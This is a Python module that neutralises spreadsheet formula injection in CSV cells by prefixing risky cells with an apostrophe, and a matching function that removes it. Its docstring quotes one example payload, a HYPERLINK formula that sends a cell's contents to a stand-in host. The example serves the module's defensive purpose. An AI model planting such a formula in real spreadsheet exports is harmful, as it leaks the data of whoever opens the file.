"""Spreadsheet formula injection: a CSV cell that a spreadsheet would run, kept as text.

Excel, LibreOffice and Google Sheets take a CSV cell starting with ``=``, ``+``, ``-`` or ``@``
(and some of them one starting with a tab or a carriage return) as a formula, so text that came
from anyone, e.g. ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` posted as public feedback, would
run on the machine of whoever opens the export. ``neutralise`` prefixes such a cell with one ``'``,
which spreadsheets read as "this is text"; a plain number (``-1.25``, ``-3``, ``-1e-05``) is left
as it is. ``restore`` takes that one ``'`` off again, so an exported file imports back unchanged.

A cell that already starts with ``'`` followed (after any more ``'``) by one of those characters
gets one more ``'``, so that ``restore(neutralise(x)) == x`` for every string. Both look at the
first character before anything else: nearly every cell is returned after one test.
"""

from __future__ import annotations

import re

RISKY = frozenset("=+-@\t\r")  # the first characters a spreadsheet may take for a formula
FIRST = RISKY | {"'"}  # the first characters of a cell that neutralise must look at further
_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def is_plain_number(text: str) -> bool:
    """A decimal number as a spreadsheet reads it: optional sign, digits, point, exponent."""
    return _NUMBER.fullmatch(text) is not None


def neutralise(text: str) -> str:
    """The cell as written to a CSV file: ``'`` before text a spreadsheet would run."""
    first = text[:1]
    if first not in FIRST:
        return text
    if first == "'":
        return "'" + text if text.lstrip("'")[:1] in RISKY else text
    if first in "+-" and _NUMBER.fullmatch(text):
        return text
    return "'" + text


def restore(text: str) -> str:
    """The cell as read from a CSV file: the ``'`` that ``neutralise`` added taken off."""
    if text[:1] == "'" and text.lstrip("'")[:1] in RISKY:
        return text[1:]
    return text
